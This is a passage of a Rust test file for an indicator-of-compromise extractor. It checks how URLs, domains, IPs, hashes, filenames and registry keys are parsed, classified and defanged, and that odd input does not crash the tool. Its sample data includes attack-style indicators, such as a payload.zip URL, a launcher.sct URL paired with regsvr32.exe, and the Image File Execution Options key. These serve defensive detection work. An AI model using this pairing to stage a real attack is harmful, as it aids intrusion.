            (IocKind::Domain, "inner.example.net".to_string()),
        ]
    );
}

#[test]
fn doubly_nested_url_is_extracted() {
    let text = "http://a.example.com/go/http://b.example.org/2?v=ftp://198.51.100.4/p";
    let urls: Vec<String> = extractor()
        .extract(text)
        .into_iter()
        .filter(|ioc| ioc.kind == IocKind::Url)
        .map(|ioc| ioc.value)
        .collect();
    assert_eq!(
        urls,
        vec![
            text.to_string(),
            "http://b.example.org/2?v=ftp://198.51.100.4/p".to_string(),
            "ftp://198.51.100.4/p".to_string(),
        ]
    );
}

#[test]
fn defanged_url_names_in_query() {
    assert_eq!(
        defanged(
            IocKind::Url,
            "https://evil.example.com/r?to=inner.example.net&ip=192.0.2.7"
        ),
        "hxxps://evil[.]example[.]com/r?to=inner[.]example[.]net&ip=192[.]0[.]2[.]7"
    );
    assert_eq!(
        defanged(IocKind::Url, "http://192.0.2.1/dl/payload.zip#v1.2"),
        "hxxp://192[.]0[.]2[.]1/dl/payload[.]zip#v1.2"
    );
    assert_eq!(
        defanged(IocKind::Url, "http://192.0.2.1/a/index.php?x=1.5"),
        "hxxp://192[.]0[.]2[.]1/a/index.php?x=1.5"
    );
}

#[test]
fn defanged_names_and_addresses() {
    assert_eq!(
        defanged(IocKind::Domain, "evil.example.com"),
        "evil[.]example[.]com"
    );
    assert_eq!(defanged(IocKind::Ipv4, "192.0.2.1"), "192[.]0[.]2[.]1");
    assert_eq!(
        defanged(IocKind::Cidr, "192.0.2.0/24"),
        "192[.]0[.]2[.]0/24"
    );
    assert_eq!(
        defanged(IocKind::Email, "first.last@example.org"),
        "first.last[@]example[.]org"
    );
    assert_eq!(defanged(IocKind::Ipv6, "2001:db8::1"), "2001:db8::1");
    assert_eq!(defanged(IocKind::Cidr, "2001:db8::/32"), "2001:db8::/32");
}

#[test]
fn defanged_filename_only_with_tld_extension() {
    assert_eq!(defanged(IocKind::Filename, "report.zip"), "report[.]zip");
    assert_eq!(defanged(IocKind::Filename, "setup.py"), "setup[.]py");
    assert_eq!(defanged(IocKind::Filename, "virus.exe"), "virus.exe");
}

#[test]
fn defanged_hash_and_registry_key_unchanged() {
    let hash = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";
    assert_eq!(defanged(IocKind::Sha256, hash), hash);
    assert_eq!(
        defanged(IocKind::RegistryKey, r"HKLM\Software\x.y"),
        r"HKLM\Software\x.y"
    );
}

// --- classify_one ---

#[test]
fn classify_one_defanged_list_item() {
    let ioc = extractor()
        .classify_one("- hxxp://10.10.10[.]5:8444/launcher[.]sct")
        .unwrap();
    assert_eq!(ioc.kind, IocKind::Url);
    assert_eq!(ioc.value, "http://10.10.10.5:8444/launcher.sct");
    assert_eq!(ioc.flags, [IocFlag::Private]);
}

#[test]
fn classify_one_every_kind() {
    let cases = [
        ("1.2.3.4", IocKind::Ipv4, "1.2.3.4"),
        ("[2001:DB8::1]", IocKind::Ipv6, "2001:db8::1"),
        ("10.0.0.0/8", IocKind::Cidr, "10.0.0.0/8"),
        ("Evil.Example.COM", IocKind::Domain, "evil.example.com"),
        (
            "<http://cdn.example.net|cdn.example.net>",
            IocKind::Domain,
            "cdn.example.net",
        ),
        (
            "mailto:Jane@Example.org",
            IocKind::Email,
            "jane@example.org",
        ),
        (
            "`D41D8CD98F00B204E9800998ECF8427E`",
            IocKind::Md5,
            "d41d8cd98f00b204e9800998ecf8427e",
        ),
        (
            "908B64B1971A979C7E3E8CE4621945CBA84854CB98D76367B791A6E22B5F6D53",
            IocKind::Sha256,
            "908b64b1971a979c7e3e8ce4621945cba84854cb98d76367b791a6e22b5f6d53",
        ),
        ("\"report.zip\"", IocKind::Filename, "report.zip"),
        (
            r"HKEY_LOCAL_MACHINE\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options",
            IocKind::RegistryKey,
            r"HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options",
        ),
        (
            "WORKSTATION5.mordor.local",
            IocKind::Domain,
            "workstation5.mordor.local",
        ),
    ];
    for (input, kind, value) in cases {
        let ioc = extractor()
            .classify_one(input)
            .unwrap_or_else(|error| panic!("{input}: {error}"));
        assert_eq!((ioc.kind, ioc.value.as_str()), (kind, value), "{input}");
    }
}

#[test]
fn classify_one_rejects_non_indicators() {
    for input in [
        "hello world",
        "v2.1.1.108",
        "03:27:53",
        "Trojan:Win32/Emotet.A!ml",
        "foo.bar123",
    ] {
        let error = extractor().classify_one(input).unwrap_err();
        assert_eq!(
            error,
            IocError::NotAnIndicator {
                value: input.to_owned()
            }
        );
    }
}

#[test]
fn classify_one_error_names_value() {
    let error = extractor().classify_one("  not-an-ioc  ").unwrap_err();
    assert!(
        error
            .to_string()
            .starts_with("`not-an-ioc` is not a recognised indicator")
    );
}

#[test]
fn classify_one_empty_and_too_long() {
    assert_eq!(
        extractor().classify_one("  - ").unwrap_err(),
        IocError::Empty
    );
    let long = format!("http://example.com/{}", "a".repeat(MAX_VALUE_LEN));
    assert_eq!(
        extractor().classify_one(&long).unwrap_err(),
        IocError::TooLong {
            len: long.len(),
            max: MAX_VALUE_LEN,
        }
    );
}

// --- JSON lines ---

#[test]
fn json_lines_have_type_value_defanged_flags() {
    let iocs = extractor().extract("http://10.10.10.5:8444/launcher.sct regsvr32.exe");
    let mut out = Vec::new();
    write_json_lines(&iocs, &mut out).unwrap();
    let text = String::from_utf8(out).unwrap();
    let lines: Vec<serde_json::Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert_eq!(
        lines[0],
        serde_json::json!({
            "type": "url",
            "value": "http://10.10.10.5:8444/launcher.sct",
            "defanged": "hxxp://10[.]10[.]10[.]5:8444/launcher.sct",
            "flags": ["private"],
        })
    );
    assert_eq!(lines[1]["type"], "ipv4");
    assert_eq!(
        lines[2],
        serde_json::json!({
            "type": "filename",
            "value": "regsvr32.exe",
            "defanged": "regsvr32.exe",
            "flags": ["known_good"],
        })
    );
    assert!(text.ends_with('\n'));
}

#[test]
fn kind_and_flag_names_match_serde() {
    for kind in IocKind::ALL {
        assert_eq!(serde_json::to_value(kind).unwrap(), kind.as_str());
        assert_eq!(IocKind::from_name(kind.as_str()), Some(kind));
    }
    assert_eq!(
        serde_json::to_value(IocFlag::LinkLocal).unwrap(),
        "link_local"
    );
    assert_eq!(IocFlag::KnownGood.to_string(), "known_good");
}

// --- limits ---

#[test]
fn url_over_limit_yields_host_only() {
    let text = format!("http://evil.example.com/{}", "a".repeat(MAX_URL_LEN));
    assert_eq!(pairs(&text), [p(IocKind::Domain, "evil.example.com")]);
}

#[test]
fn over_long_names_are_not_indicators() {
    let label = "a".repeat(MAX_LABEL_LEN + 1);
    assert!(pairs(&format!("{label}.example.com")).is_empty());
    let stem = "b".repeat(MAX_FILENAME_LEN);
    assert!(pairs(&format!("{stem}.exe")).is_empty());
}

#[test]
fn hash_with_trimmed_edges_is_hash() {
    let hash = "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08";
    assert_eq!(
        values(&format!("-{hash}- _{hash}_"), IocKind::Sha256),
        [hash]
    );
}

/// Returns the file extension list as written in `name.rs`.
fn file_extensions() -> Vec<&'static str> {
    let source = include_str!("name.rs");
    let start = source.find("const FILE_EXTENSIONS").unwrap();
    let body = &source[start..start + source[start..].find("];").unwrap()];
    body.split('"').skip(1).step_by(2).collect()
}

#[test]
fn file_extension_list_sorted() {
    let extensions = file_extensions();
    assert!(
        extensions.windows(2).all(|pair| pair[0] < pair[1]),
        "sorted, no duplicates"
    );
}

#[test]
fn file_extensions_that_are_tlds() {
    let tlds: Vec<&str> = file_extensions()
        .into_iter()
        .filter(|extension| name::is_public_tld(extension))
        .collect();
    assert_eq!(tlds, ["cab", "dot", "mov", "pf", "py", "sh", "so", "zip"]);
}

// --- robustness ---

/// Deterministic pseudo-random text made of the bytes that matter to the
/// scanner, to check that no input makes extraction panic.
#[test]
fn extract_never_panics_on_mixed_input() {
    const PIECES: [&str; 40] = [
        "http",
        "://",
        "hxxp",
        "[.]",
        "(dot)",
        "[",
        "]",
        "(",
        ")",
        "{",
        "}",
        "<",
        ">",
        "|",
        "&amp;",
        "&lt;",
        ".",
        ":",
        "::",
        "/",
        "@",
        "\\",
        "\\\\",
        "\"",
        "'",
        "`",
        " ",
        "\n",
        "\r\n",
        "HKLM",
        "\\REGISTRY\\MACHINE",
        "example.com",
        "10.0.0.1",
        "fe80",
        "ab",
        "é",
        "→",
        "%2F",
        "#",
        "9f86d081884c7d659a2feaa0c55ad015",
    ];
    let extractor = extractor();
    let mut state: u64 = 0x2545_f491_4f6c_dd1d;
    for _ in 0..2_000 {
        let mut text = String::new();
        if state.is_multiple_of(3) {
            text.push('{');
        }
        for _ in 0..(state % 40) {
            state ^= state << 13;
            state ^= state >> 7;
            state ^= state << 17;
            text.push_str(PIECES[(state % PIECES.len() as u64) as usize]);
        }
        if state.is_multiple_of(3) {
            text.push('}');
        }
        for ioc in extractor.extract(&text) {
            assert!(!ioc.value.is_empty(), "{text:?}");
            let _ = ioc.defanged();
        }
        let _ = extractor.classify_one(&text);
    }
}

#[test]
fn long_runs_do_not_blow_up() {
    let extractor = extractor();
    for text in [
        format!("http://a.example.com/{}", ")".repeat(200_000)),
        format!("HKLM\\Run{}", ")".repeat(200_000)),
        "]".repeat(200_000),
        format!("\"HKLM\\x {}", "y ".repeat(100_000)),
        "<".repeat(200_000),
        "a.".repeat(200_000),
        "1:".repeat(200_000),
    ] {
        let _ = extractor.extract(&text);
    }
}

#[test]
fn classify_one_slack_link_with_label_is_rejected() {
    let input = "<http://evil.example.com/x|click here>";
    assert_eq!(
        extractor().classify_one(input).unwrap_err(),
        IocError::NotAnIndicator {
            value: input.to_owned()
        }
    );
}

#[test]
fn azure_internal_name_is_private() {
    let extractor = Extractor::new(KnownGood::shipped());
    let iocs = extractor.extract("collector wec.internal.cloudapp.net forwarded it");
    let domain = iocs
        .iter()
        .find(|ioc| ioc.kind == IocKind::Domain)
        .expect("domain");
    assert_eq!(domain.value, "wec.internal.cloudapp.net");
    assert!(domain.flags.contains(&IocFlag::Private), "{domain:?}");
}
